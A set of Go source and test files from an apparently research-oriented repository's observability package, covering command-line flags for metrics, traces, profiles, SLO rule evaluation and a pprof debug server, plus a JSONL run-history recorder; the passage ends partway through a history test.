//	-trace <file>     arm the default tracer; write its events to <file>
//	                  (.csv selects CSV, anything else JSON) on Close
//	-dtrace <file>    arm the default distributed tracer; write its
//	                  span JSONL (sorted, cross-process mergeable) to
//	                  <file> on Close
//	-trace-sample N   head-based sampling for -dtrace: keep 1 in N
//	                  traces, decided deterministically by trace ID
//	-dtrace-canon     zero span timestamps so the -dtrace export is
//	                  byte-identical across worker counts
//	-profile <file>   arm the default energy/cycle profiler; write its
//	                  JSON call tree to <file> on Close
//	-journal <file>   arm the default event journal; write its merged
//	                  JSONL (deterministic (t_sim, seq) order) on Close
//	-journal-level L  minimum journal level (debug, info, warn, crit)
//	-slo <file>       load SLO rules and evaluate them at run end
//	-slo-strict       exit nonzero when a crit-severity rule fires
//	-slo-interval D   also evaluate rules on this wall-clock period
//	-series <file>    record windowed metric time-series; write JSONL
//	                  windows to <file> on Close
//	-series-interval D  cut wall-clock windows on this period (0 = the
//	                  cmd ticks model time itself, e.g. fleet epochs)
//	-pprof <addr>     serve pprof/expvar/metrics/events/progress on addr
//
// Usage in a cmd:
//
//	o := obs.BindFlags(flag.CommandLine)
//	flag.Parse()
//	defer o.Close()
//	if err := o.Activate(); err != nil { ... }
//	...
//	o.Finish("toolname") // last statement: flush + strict exit code
//
// All flags are opt-in; with none set, Activate and Close do nothing
// and the instrumented layers stay on their disarmed fast path.
type CLI struct {
	metricsPath  string
	tracePath    string
	dtracePath   string
	traceSample  int
	dtraceCanon  bool
	profilePath  string
	journalPath  string
	journalLevel string
	sloPath      string
	sloStrict    bool
	sloInterval  time.Duration
	seriesPath   string
	seriesEvery  time.Duration
	pprofAddr    string

	engine     *slo.Engine
	sloDone    bool
	shutdown   func() error
	stopEval   chan struct{}
	stopSeries chan struct{}
	sink       SeriesSink
}

// BindFlags registers the observability flags on fs.
func BindFlags(fs *flag.FlagSet) *CLI {
	c := &CLI{}
	fs.StringVar(&c.metricsPath, "metrics", "", "write a JSON metrics snapshot to this file on exit")
	fs.StringVar(&c.tracePath, "trace", "", "write the event trace to this file on exit (.csv for CSV)")
	fs.StringVar(&c.dtracePath, "dtrace", "", "write the distributed span trace (JSONL) to this file on exit")
	fs.IntVar(&c.traceSample, "trace-sample", 1, "keep 1 in N distributed traces (head-based, deterministic by trace ID)")
	fs.BoolVar(&c.dtraceCanon, "dtrace-canon", false, "zero span timestamps in the distributed trace for byte-diffable exports")
	fs.StringVar(&c.profilePath, "profile", "", "write the energy/cycle profile (JSON call tree) to this file on exit")
	fs.StringVar(&c.journalPath, "journal", "", "write the structured event journal (JSONL) to this file on exit")
	fs.StringVar(&c.journalLevel, "journal-level", "info", "minimum journal level: debug, info, warn or crit")
	fs.StringVar(&c.sloPath, "slo", "", "evaluate the SLO rules in this JSON file against the run's metrics")
	fs.BoolVar(&c.sloStrict, "slo-strict", false, "exit nonzero when a crit-severity SLO rule fires")
	fs.DurationVar(&c.sloInterval, "slo-interval", 0, "also evaluate SLO rules on this wall-clock period (0 = run end only)")
	fs.StringVar(&c.seriesPath, "series", "", "record windowed metric time-series and write them (JSONL) to this file on exit")
	fs.DurationVar(&c.seriesEvery, "series-interval", 0, "cut wall-clock series windows on this period (0 = model-time ticks from the cmd)")
	fs.StringVar(&c.pprofAddr, "pprof", "", "serve pprof/expvar/metrics/events/progress HTTP endpoints on this address (e.g. localhost:6060)")
	return c
}

// Activate arms the default registry/tracer/profiler/journal, loads SLO
// rules, and starts the debug server according to the parsed flags.
// Call after flag.Parse. Output paths are created here so an unwritable
// path fails the run up front instead of silently losing the snapshot
// at Close.
func (c *CLI) Activate() error {
	if c.metricsPath != "" || c.pprofAddr != "" || c.sloPath != "" || c.seriesPath != "" {
		if err := touch(c.metricsPath); err != nil {
			return fmt.Errorf("-metrics: %w", err)
		}
		Default.SetEnabled(true)
	}
	if c.tracePath != "" {
		if err := touch(c.tracePath); err != nil {
			return fmt.Errorf("-trace: %w", err)
		}
		DefaultTracer.SetEnabled(true)
	}
	if c.traceSample < 1 {
		return fmt.Errorf("-trace-sample: must be >= 1 (got %d)", c.traceSample)
	}
	if c.dtracePath != "" {
		if err := touch(c.dtracePath); err != nil {
			return fmt.Errorf("-dtrace: %w", err)
		}
		DefaultDTracer.SetProc(procName())
		DefaultDTracer.SetSampleN(c.traceSample)
		DefaultDTracer.SetCanonical(c.dtraceCanon)
		DefaultDTracer.SetEnabled(true)
	}
	if c.profilePath != "" {
		if err := touch(c.profilePath); err != nil {
			return fmt.Errorf("-profile: %w", err)
		}
		prof.Default.SetEnabled(true)
	}
	if c.journalPath != "" || c.pprofAddr != "" {
		if err := touch(c.journalPath); err != nil {
			return fmt.Errorf("-journal: %w", err)
		}
		lv, err := journal.ParseLevel(c.journalLevel)
		if err != nil {
			return fmt.Errorf("-journal-level: %w", err)
		}
		journal.Default.SetMinLevel(lv)
		journal.Default.SetEnabled(true)
	}
	if c.sloPath != "" {
		rules, err := slo.LoadFile(c.sloPath)
		if err != nil {
			return fmt.Errorf("-slo: %w", err)
		}
		c.engine = slo.NewEngine(rules)
		if c.sloInterval > 0 {
			c.stopEval = make(chan struct{})
			go c.evalLoop()
		}
	}
	if c.seriesEvery != 0 && c.seriesPath == "" {
		return fmt.Errorf("-series-interval requires -series")
	}
	if c.seriesPath != "" {
		if err := touch(c.seriesPath); err != nil {
			return fmt.Errorf("-series: %w", err)
		}
		c.sink = GetSeriesSink()
		if c.sink == nil {
			return fmt.Errorf("-series: no series recorder linked into this binary (import repro/internal/obs/ts)")
		}
		// Burn-rate rules evaluate synchronously as each window is cut,
		// so a trajectory violation reaches the journal mid-run with the
		// window's own key, deterministic in model-tick mode.
		var onWindow func(t int64)
		if c.engine != nil && c.engine.HasBurnRules() {
			eng, sink := c.engine, c.sink
			onWindow = func(t int64) { emitFirings(eng.EvalBurn(t, sink.WindowLookup)) }
		}
		c.sink.Arm(Default, onWindow)
		if c.seriesEvery > 0 {
			c.stopSeries = make(chan struct{})
			go c.seriesLoop()
		}
	}
	if c.engine != nil && c.engine.HasBurnRules() && c.sink == nil {
		fmt.Fprintf(os.Stderr, "obs: rules file has burn-rate rules but -series is not set; they will stay silent\n")
	}
	if c.pprofAddr != "" {
		cfg := ServerConfig{
			Registry: Default,
			Tracer:   DefaultTracer,
			Journal:  journal.Default,
			Progress: ProgressSource(),
		}
		if c.engine != nil {
			eng := c.engine
			cfg.Alerts = func() []byte { return slo.MarshalFirings(eng.Firings()) }
		}
		addr, shutdown, err := ServeConfig(c.pprofAddr, cfg)
		if err != nil {
			return err
		}
		c.shutdown = shutdown
		fmt.Fprintf(os.Stderr, "obs: pprof/metrics/events/progress on http://%s/\n", addr)
	}
	return nil
}

// evalLoop periodically evaluates SLO rules against live snapshots so
// long-running tools surface budget violations while they execute (the
// firing also reaches /events subscribers through the journal).
func (c *CLI) evalLoop() {
	tick := time.NewTicker(c.sloInterval)
	defer tick.Stop()
	for {
		select {
		case <-c.stopEval:
			return
		case <-tick.C:
			snap := Default.Snapshot()
			emitFirings(c.engine.Eval(journal.TEnd, snap.Lookup))
		}
	}
}

// seriesLoop cuts wall-clock windows on the -series-interval period for
// tools with no model clock (gateway, loadgen). Burn-rate evaluation
// rides the recorder's onWindow callback.
func (c *CLI) seriesLoop() {
	tick := time.NewTicker(c.seriesEvery)
	defer tick.Stop()
	for {
		select {
		case <-c.stopSeries:
			return
		case <-tick.C:
			c.sink.TickWall()
		}
	}
}

// emitFirings turns fired rules into journal events so they reach the
// -journal file, /events subscribers, and the msreport alert table.
func emitFirings(firings []slo.Firing) {
	for _, f := range firings {
		lv := journal.LevelWarn
		if f.Rule.Severity == slo.Crit {
			lv = journal.LevelCrit
		}
		fields := []journal.Field{
			journal.S("rule", f.Rule.Name),
			journal.S("severity", string(f.Rule.Severity)),
			journal.S("metric", f.Rule.Metric),
			journal.F("value", f.Value),
			journal.S("op", f.Rule.Op),
			journal.F("threshold", f.Rule.Threshold),
		}
		if f.Rule.Burn != nil {
			fields = append(fields,
				journal.F("slow_value", f.SlowValue),
				journal.I("burn_fast", int64(f.Rule.Burn.Fast)),
				journal.I("burn_slow", int64(f.Rule.Burn.Slow)),
			)
		}
		fields = append(fields, journal.S("reason", f.Rule.Reason))
		journal.Emit(f.TSim, lv, "slo", "slo_fired", fields...)
	}
}

// finishSLO runs the end-of-run rule evaluation exactly once, emits
// journal events for fresh firings, and prints a summary to stderr.
func (c *CLI) finishSLO() {
	if c.engine == nil || c.sloDone {
		return
	}
	c.sloDone = true
	if c.stopEval != nil {
		close(c.stopEval)
		c.stopEval = nil
	}
	snap := Default.Snapshot()
	emitFirings(c.engine.Eval(journal.TEnd, snap.Lookup))
	if c.sink != nil {
		// One last burn evaluation over whatever windows exist, so a
		// violation in the final partial span is not lost.
		emitFirings(c.engine.EvalBurn(journal.TEnd, c.sink.WindowLookup))
	}
	if all := c.engine.Firings(); len(all) > 0 {
		fmt.Fprintf(os.Stderr, "slo: %d rule(s) fired:\n%s", len(all), slo.Summary(all))
	}
}

// Close writes the requested metrics/trace/profile/journal files, stops
// the debug server, and evaluates SLO rules a final time. Safe to call
// when no flags were set, and idempotent enough to both defer and call
// explicitly before os.Exit. With -slo-strict it returns ErrSLOStrict
// (wrapped) if any crit-severity rule fired.
func (c *CLI) Close() error {
	var first error
	if c.stopSeries != nil {
		close(c.stopSeries)
		c.stopSeries = nil
	}
	c.finishSLO()
	if c.seriesPath != "" && c.sink != nil {
		if err := c.sink.WriteFile(c.seriesPath); err != nil && first == nil {
			first = err
		}
		c.seriesPath = ""
	}
	if c.metricsPath != "" {
		s := Default.Snapshot()
		if DefaultTracer.Enabled() {
			st := DefaultTracer.Stats()
			s.Trace = &st
		}
		if DefaultDTracer.Enabled() {
			st := DefaultDTracer.Stats()
			s.DTrace = &st
		}
		if err := s.WriteFile(c.metricsPath); err != nil && first == nil {
			first = err
		}
		c.metricsPath = ""
	}
	if c.tracePath != "" {
		if err := DefaultTracer.WriteFile(c.tracePath); err != nil && first == nil {
			first = err
		}
		c.tracePath = ""
	}
	if c.dtracePath != "" {
		if st := DefaultDTracer.Stats(); st.Dropped > 0 {
			fmt.Fprintf(os.Stderr, "obs: span ring capacity reached, %d span(s) dropped\n", st.Dropped)
		}
		if err := DefaultDTracer.WriteFile(c.dtracePath); err != nil && first == nil {
			first = err
		}
		c.dtracePath = ""
	}
	if c.profilePath != "" {
		if err := prof.Default.WriteFile(c.profilePath); err != nil && first == nil {
			first = err
		}
		c.profilePath = ""
	}
	if c.journalPath != "" {
		if n := journal.Default.Dropped(); n > 0 {
			fmt.Fprintf(os.Stderr, "obs: journal capacity reached, %d event(s) dropped\n", n)
		}
		if err := journal.Default.WriteFile(c.journalPath); err != nil && first == nil {
			first = err
		}
		c.journalPath = ""
	}
	if c.shutdown != nil {
		if err := c.shutdown(); err != nil && first == nil {
			first = err
		}
		c.shutdown = nil
	}
	if c.engine != nil {
		if c.sloStrict && c.engine.CritCount() > 0 {
			if first == nil {
				first = fmt.Errorf("slo: %d crit rule(s): %w", c.engine.CritCount(), ErrSLOStrict)
			}
		}
		c.engine = nil
	}
	return first
}

// Finish is the cmd epilogue: it closes the CLI and exits nonzero if
// flushing failed or strict SLO mode vetoed the run (exit 3, distinct
// from general tool failure). Call as the last statement of main; the
// paired defer o.Close() then has nothing left to do.
func (c *CLI) Finish(tool string) {
	if err := c.Close(); err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", tool, err)
		if errors.Is(err, ErrSLOStrict) {
			os.Exit(3)
		}
		os.Exit(1)
	}
}

// procName is the process name stamped on exported spans so merged
// multi-process traces keep their halves apart ("msload", "msgateway").
func procName() string {
	if len(os.Args) == 0 || os.Args[0] == "" {
		return "proc"
	}
	return filepath.Base(os.Args[0])
}

// touch creates (or truncates) path so permission/path errors surface at
// Activate time. Empty paths are ignored.
func touch(path string) error {
	if path == "" {
		return nil
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	return f.Close()
}
