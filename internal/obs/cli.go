package obs

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/obs/prof"
)

// CLI binds the shared observability flags every cmd exposes:
//
//	-metrics <file>  arm the default registry; write its JSON snapshot
//	                 to <file> on Close
//	-trace <file>    arm the default tracer; write its events to <file>
//	                 (.csv selects CSV, anything else JSON) on Close
//	-profile <file>  arm the default energy/cycle profiler; write its
//	                 JSON call tree to <file> on Close
//	-pprof <addr>    serve pprof/expvar/metrics on addr until exit
//
// Usage in a cmd:
//
//	o := obs.BindFlags(flag.CommandLine)
//	flag.Parse()
//	defer o.Close()
//	if err := o.Activate(); err != nil { ... }
//
// All four are opt-in; with none set, Activate and Close do nothing
// and the instrumented layers stay on their disarmed fast path.
type CLI struct {
	metricsPath string
	tracePath   string
	profilePath string
	pprofAddr   string
	shutdown    func() error
}

// BindFlags registers the observability flags on fs.
func BindFlags(fs *flag.FlagSet) *CLI {
	c := &CLI{}
	fs.StringVar(&c.metricsPath, "metrics", "", "write a JSON metrics snapshot to this file on exit")
	fs.StringVar(&c.tracePath, "trace", "", "write the event trace to this file on exit (.csv for CSV)")
	fs.StringVar(&c.profilePath, "profile", "", "write the energy/cycle profile (JSON call tree) to this file on exit")
	fs.StringVar(&c.pprofAddr, "pprof", "", "serve pprof/expvar/metrics HTTP endpoints on this address (e.g. localhost:6060)")
	return c
}

// Activate arms the default registry/tracer and starts the pprof server
// according to the parsed flags. Call after flag.Parse. Output paths are
// created here so an unwritable path fails the run up front instead of
// silently losing the snapshot at Close.
func (c *CLI) Activate() error {
	if c.metricsPath != "" || c.pprofAddr != "" {
		if err := touch(c.metricsPath); err != nil {
			return fmt.Errorf("-metrics: %w", err)
		}
		Default.SetEnabled(true)
	}
	if c.tracePath != "" {
		if err := touch(c.tracePath); err != nil {
			return fmt.Errorf("-trace: %w", err)
		}
		DefaultTracer.SetEnabled(true)
	}
	if c.profilePath != "" {
		if err := touch(c.profilePath); err != nil {
			return fmt.Errorf("-profile: %w", err)
		}
		prof.Default.SetEnabled(true)
	}
	if c.pprofAddr != "" {
		addr, shutdown, err := Serve(c.pprofAddr, Default, DefaultTracer)
		if err != nil {
			return err
		}
		c.shutdown = shutdown
		fmt.Fprintf(os.Stderr, "obs: pprof/expvar/metrics on http://%s/debug/pprof/\n", addr)
	}
	return nil
}

// Close writes the requested metrics/trace files and stops the pprof
// server. Safe to call when no flags were set, and idempotent enough to
// both defer and call explicitly before os.Exit.
func (c *CLI) Close() error {
	var first error
	if c.metricsPath != "" {
		s := Default.Snapshot()
		if DefaultTracer.Enabled() {
			st := DefaultTracer.Stats()
			s.Trace = &st
		}
		if err := s.WriteFile(c.metricsPath); err != nil && first == nil {
			first = err
		}
		c.metricsPath = ""
	}
	if c.tracePath != "" {
		if err := DefaultTracer.WriteFile(c.tracePath); err != nil && first == nil {
			first = err
		}
		c.tracePath = ""
	}
	if c.profilePath != "" {
		if err := prof.Default.WriteFile(c.profilePath); err != nil && first == nil {
			first = err
		}
		c.profilePath = ""
	}
	if c.shutdown != nil {
		if err := c.shutdown(); err != nil && first == nil {
			first = err
		}
		c.shutdown = nil
	}
	return first
}

// touch creates (or truncates) path so permission/path errors surface at
// Activate time. Empty paths are ignored.
func touch(path string) error {
	if path == "" {
		return nil
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	return f.Close()
}
