package obs

import (
	"bytes"
	"encoding/json"
	"strings"
	"sync"
	"testing"
)

func TestCounterDisarmedIgnoresUpdates(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("x")
	c.Add(5)
	if got := c.Value(); got != 0 {
		t.Fatalf("disarmed counter accumulated %d", got)
	}
	r.SetEnabled(true)
	c.Add(5)
	c.Inc()
	if got := c.Value(); got != 6 {
		t.Fatalf("armed counter = %d, want 6", got)
	}
	r.SetEnabled(false)
	c.Add(100)
	if got := c.Value(); got != 6 {
		t.Fatalf("re-disarmed counter = %d, want 6", got)
	}
}

func TestNilRegistryAndInstrumentsAreNoOps(t *testing.T) {
	var r *Registry
	if r.Enabled() {
		t.Fatal("nil registry reports enabled")
	}
	r.SetEnabled(true) // must not panic
	c := r.Counter("c")
	g := r.Gauge("g")
	h := r.Histogram("h", []int64{1, 2})
	c.Add(1)
	c.Inc()
	g.Set(3.5)
	h.Observe(1)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Sum() != 0 {
		t.Fatal("nil instruments accumulated state")
	}
	snap := r.Snapshot()
	if len(snap.Counters) != 0 || len(snap.Gauges) != 0 || len(snap.Histograms) != 0 {
		t.Fatal("nil registry snapshot not empty")
	}
}

func TestCounterHandleIsStable(t *testing.T) {
	r := NewRegistry()
	if r.Counter("a") != r.Counter("a") {
		t.Fatal("same name returned different counter handles")
	}
	if r.Histogram("h", []int64{1}) != r.Histogram("h", []int64{9, 9, 9}) {
		t.Fatal("same name returned different histogram handles")
	}
}

func TestHistogramBuckets(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	h := r.Histogram("lat", []int64{10, 100, 1000})
	for _, v := range []int64{5, 10, 11, 100, 500, 5000} {
		h.Observe(v)
	}
	if h.Count() != 6 {
		t.Fatalf("count = %d, want 6", h.Count())
	}
	if h.Sum() != 5+10+11+100+500+5000 {
		t.Fatalf("sum = %d", h.Sum())
	}
	snap := r.Snapshot()
	if len(snap.Histograms) != 1 {
		t.Fatalf("histograms in snapshot = %d", len(snap.Histograms))
	}
	hv := snap.Histograms[0]
	want := []int64{2, 2, 1, 1} // ≤10, ≤100, ≤1000, overflow
	if len(hv.Counts) != len(want) {
		t.Fatalf("bucket count slots = %d, want %d", len(hv.Counts), len(want))
	}
	for i, w := range want {
		if hv.Counts[i] != w {
			t.Fatalf("bucket %d = %d, want %d", i, hv.Counts[i], w)
		}
	}
}

func TestRegistryConcurrentUse(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	const goroutines, perG = 8, 1000
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := r.Counter("shared")
			h := r.Histogram("sizes", SizeBuckets)
			for j := 0; j < perG; j++ {
				c.Inc()
				h.Observe(int64(j))
				r.Gauge("last").Set(float64(j))
			}
		}()
	}
	wg.Wait()
	if got := r.Counter("shared").Value(); got != goroutines*perG {
		t.Fatalf("counter = %d, want %d", got, goroutines*perG)
	}
	if got := r.Histogram("sizes", SizeBuckets).Count(); got != goroutines*perG {
		t.Fatalf("histogram count = %d, want %d", got, goroutines*perG)
	}
}

func TestSnapshotDeterministicOrderAndJSON(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	r.Counter("z").Inc()
	r.Counter("a").Inc()
	r.Gauge("m").Set(1)
	snap := r.Snapshot()
	if snap.Counters[0].Name != "a" || snap.Counters[1].Name != "z" {
		t.Fatalf("counters not sorted: %+v", snap.Counters)
	}
	var b1, b2 bytes.Buffer
	if err := r.WriteJSON(&b1); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteJSON(&b2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b1.Bytes(), b2.Bytes()) {
		t.Fatal("snapshot JSON not stable across calls")
	}
	var decoded Snapshot
	if err := json.Unmarshal(b1.Bytes(), &decoded); err != nil {
		t.Fatalf("snapshot JSON invalid: %v", err)
	}
}

func TestTracerSpanAndEmit(t *testing.T) {
	tr := NewTracer(64)
	tr.Emit("x", "ignored", 1) // disarmed
	if len(tr.Events()) != 0 {
		t.Fatal("disarmed tracer recorded events")
	}
	tr.SetEnabled(true)
	sp := tr.Start("crypto", "seal")
	sp.SetN(1024)
	sp.End()
	tr.Emit("arq", "retransmit", 3)
	ev := tr.Events()
	if len(ev) != 2 {
		t.Fatalf("events = %d, want 2", len(ev))
	}
	if ev[0].Layer != "crypto" || ev[0].Name != "seal" || ev[0].N != 1024 {
		t.Fatalf("span event wrong: %+v", ev[0])
	}
	if ev[1].Layer != "arq" || ev[1].N != 3 || ev[1].DurUS != 0 {
		t.Fatalf("point event wrong: %+v", ev[1])
	}
	if ev[0].Seq != 0 || ev[1].Seq != 1 {
		t.Fatalf("sequence numbers wrong: %d, %d", ev[0].Seq, ev[1].Seq)
	}
}

func TestTracerRingWraparound(t *testing.T) {
	tr := NewTracer(16)
	tr.SetEnabled(true)
	for i := 0; i < 40; i++ {
		tr.Emit("l", "e", int64(i))
	}
	ev := tr.Events()
	if len(ev) != 16 {
		t.Fatalf("buffered events = %d, want 16", len(ev))
	}
	if tr.Dropped() != 24 {
		t.Fatalf("dropped = %d, want 24", tr.Dropped())
	}
	// Oldest surviving event is #24; order must be preserved.
	for i, e := range ev {
		if e.N != int64(24+i) {
			t.Fatalf("event %d carries N=%d, want %d", i, e.N, 24+i)
		}
	}
}

func TestTracerExports(t *testing.T) {
	tr := NewTracer(16)
	tr.SetEnabled(true)
	tr.Emit("chaos", "drop", 1)
	var jbuf, cbuf bytes.Buffer
	if err := tr.WriteJSON(&jbuf); err != nil {
		t.Fatal(err)
	}
	var tf struct {
		Dropped uint64  `json:"dropped"`
		Events  []Event `json:"events"`
	}
	if err := json.Unmarshal(jbuf.Bytes(), &tf); err != nil {
		t.Fatalf("trace JSON invalid: %v", err)
	}
	if len(tf.Events) != 1 || tf.Events[0].Layer != "chaos" {
		t.Fatalf("trace JSON content wrong: %+v", tf)
	}
	if err := tr.WriteCSV(&cbuf); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(cbuf.String()), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "seq,start_us") {
		t.Fatalf("trace CSV wrong:\n%s", cbuf.String())
	}
}

func TestTracerConcurrent(t *testing.T) {
	tr := NewTracer(1024)
	tr.SetEnabled(true)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				sp := tr.Start("l", "s")
				sp.End()
			}
		}()
	}
	wg.Wait()
	if len(tr.Events()) != 800 {
		t.Fatalf("events = %d, want 800", len(tr.Events()))
	}
}

// TestDisabledPathAllocationFree is the hard guarantee behind wiring
// instruments into the crypto/ARQ hot paths: with the registry and
// tracer disarmed (the default), updates must not allocate.
func TestDisabledPathAllocationFree(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c")
	h := r.Histogram("h", DurationBuckets)
	g := r.Gauge("g")
	tr := NewTracer(64)
	if n := testing.AllocsPerRun(1000, func() {
		c.Add(1)
		g.Set(1)
		h.Observe(17)
		tr.Emit("l", "e", 1)
		sp := tr.Start("l", "s")
		sp.End()
	}); n != 0 {
		t.Fatalf("disabled instruments allocate %.1f allocs/op, want 0", n)
	}
}

// TestEnabledCounterAllocationFree keeps the armed path honest too: an
// armed counter/histogram update is a pure atomic operation.
func TestEnabledCounterAllocationFree(t *testing.T) {
	r := NewRegistry()
	r.SetEnabled(true)
	c := r.Counter("c")
	h := r.Histogram("h", DurationBuckets)
	if n := testing.AllocsPerRun(1000, func() {
		c.Add(1)
		h.Observe(17)
	}); n != 0 {
		t.Fatalf("enabled counter/histogram allocate %.1f allocs/op, want 0", n)
	}
}

// BenchmarkDisabledCounter proves the disarmed hot path is free of
// allocations and cheap enough to leave compiled into every layer.
func BenchmarkDisabledCounter(b *testing.B) {
	r := NewRegistry()
	c := r.Counter("bench")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Add(1)
	}
}

// BenchmarkDisabledHistogram measures the disarmed Observe path.
func BenchmarkDisabledHistogram(b *testing.B) {
	r := NewRegistry()
	h := r.Histogram("bench", DurationBuckets)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(int64(i))
	}
}

// BenchmarkEnabledCounter measures the armed atomic-add path.
func BenchmarkEnabledCounter(b *testing.B) {
	r := NewRegistry()
	r.SetEnabled(true)
	c := r.Counter("bench")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Add(1)
	}
}

// BenchmarkEnabledHistogram measures the armed Observe path.
func BenchmarkEnabledHistogram(b *testing.B) {
	r := NewRegistry()
	r.SetEnabled(true)
	h := r.Histogram("bench", DurationBuckets)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(int64(i % 2_000_000))
	}
}

func TestTracerStatsAndTruncationComment(t *testing.T) {
	tr := NewTracer(16)
	tr.SetEnabled(true)
	for i := 0; i < 28; i++ {
		tr.Emit("l", "e", int64(i))
	}
	st := tr.Stats()
	if st.Recorded != 28 || st.Dropped != 12 || st.Capacity != 16 {
		t.Fatalf("Stats = %+v, want {28 12 16}", st)
	}
	var buf bytes.Buffer
	if err := tr.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), "# truncated: 12 events dropped") {
		t.Fatalf("truncated CSV lacks warning comment:\n%s", buf.String())
	}
	var nilTr *Tracer
	if st := nilTr.Stats(); st != (TraceStats{}) {
		t.Fatalf("nil tracer Stats = %+v", st)
	}
}
