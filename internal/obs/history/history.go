// Package history is the cross-run record book: an append-only JSONL
// file (one JSON object per line, conventionally bench/history.jsonl)
// that benchreg and msreport add a Record to after each run. It ties
// every headline figure back to the commit, Go toolchain, seed and
// configuration that produced it, so a regression spotted in a trend
// table is immediately attributable.
package history

import (
	"bufio"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// ErrDuplicate reports an AppendUnique refused because the history
// already holds a record for the same (commit, fingerprint) pair.
var ErrDuplicate = errors.New("history: record for this commit and configuration already exists")

// Record is one run's entry in the history file.
type Record struct {
	// Date is the run's UTC date (YYYY-MM-DD).
	Date string `json:"date"`
	// Source names the tool that appended the record (benchreg,
	// msreport, ...).
	Source string `json:"source"`
	// Commit is the repository HEAD at run time ("unknown" outside a
	// git checkout).
	Commit string `json:"commit"`
	// GoVersion is the toolchain that built the run.
	GoVersion string `json:"go_version"`
	// Seed identifies the workload seed, when one applies.
	Seed string `json:"seed,omitempty"`
	// Fingerprint is a short digest of the run configuration (see
	// Fingerprint), so records from different setups never get
	// compared as a trend.
	Fingerprint string `json:"config_fingerprint,omitempty"`
	// Headline holds the run's named figures (benchmark ns/op, total
	// modeled energy, gap fractions, ...).
	Headline map[string]float64 `json:"headline,omitempty"`
	// LayerEnergyUJ attributes the run's modeled energy per top-level
	// profile frame.
	LayerEnergyUJ map[string]int64 `json:"layer_energy_uj,omitempty"`
}

// Fingerprint digests the given configuration strings into a short,
// stable hex token.
func Fingerprint(parts ...string) string {
	sum := sha256.Sum256([]byte(strings.Join(parts, "\x00")))
	return fmt.Sprintf("%x", sum[:6])
}

// Commit returns the abbreviated git HEAD of the working directory, or
// "unknown" when git (or the repository) is unavailable.
func Commit() string {
	out, err := exec.Command("git", "rev-parse", "--short", "HEAD").Output()
	if err != nil {
		return "unknown"
	}
	return strings.TrimSpace(string(out))
}

// Today returns the UTC date stamp used for Record.Date.
func Today() string { return time.Now().UTC().Format("2006-01-02") }

// Append adds one record to the JSONL file at path, creating the file
// and its directory as needed.
func Append(path string, r Record) error {
	if dir := filepath.Dir(path); dir != "." {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return fmt.Errorf("history: %w", err)
		}
	}
	blob, err := json.Marshal(r)
	if err != nil {
		return fmt.Errorf("history: %w", err)
	}
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return fmt.Errorf("history: %w", err)
	}
	if _, err := f.Write(append(blob, '\n')); err != nil {
		f.Close()
		return fmt.Errorf("history: %w", err)
	}
	return f.Close()
}

// Valid reports whether a record carries the minimum identifying
// information a trend view needs: the date and the tool that wrote it.
func (r Record) Valid() bool { return r.Date != "" && r.Source != "" }

// Load reads every valid record from the JSONL file at path, in file
// order, and reports how many lines it skipped (unparseable JSON or
// records failing Valid). A missing file is an empty history, not an
// error; skipping keeps one bad append from poisoning the trend view,
// and the count keeps the skipping from being silent.
func Load(path string) ([]Record, int, error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, 0, nil
		}
		return nil, 0, fmt.Errorf("history: %w", err)
	}
	defer f.Close()
	var out []Record
	skipped := 0
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		var r Record
		if err := json.Unmarshal([]byte(line), &r); err != nil || !r.Valid() {
			skipped++
			continue
		}
		out = append(out, r)
	}
	return out, skipped, sc.Err()
}

// AppendUnique appends r unless the history already holds a record with
// the same (Commit, Fingerprint) pair, in which case it returns
// ErrDuplicate. Re-running a report on an unchanged checkout therefore
// cannot inflate the trend tables with identical points. Records with an
// unknown commit are exempt — outside a git checkout every run would
// collide.
func AppendUnique(path string, r Record) error {
	if r.Commit != "" && r.Commit != "unknown" {
		existing, _, err := Load(path)
		if err != nil {
			return err
		}
		for _, e := range existing {
			if e.Commit == r.Commit && e.Fingerprint == r.Fingerprint {
				return fmt.Errorf("%w (commit %s, config %s)", ErrDuplicate, r.Commit, r.Fingerprint)
			}
		}
	}
	return Append(path, r)
}
