package history

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

func TestAppendLoadRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "nested", "history.jsonl")
	r1 := Record{
		Date: "2026-08-06", Source: "benchreg", Commit: "abc1234",
		GoVersion: "go1.22", Fingerprint: Fingerprint("a", "b"),
		Headline: map[string]float64{"RC4_ns_per_op": 12.5},
	}
	r2 := Record{
		Date: "2026-08-06", Source: "msreport", Commit: "abc1234",
		GoVersion: "go1.22", Seed: "fig4",
		LayerEnergyUJ: map[string]int64{"core.BatteryFigure": 26_000_000_000},
	}
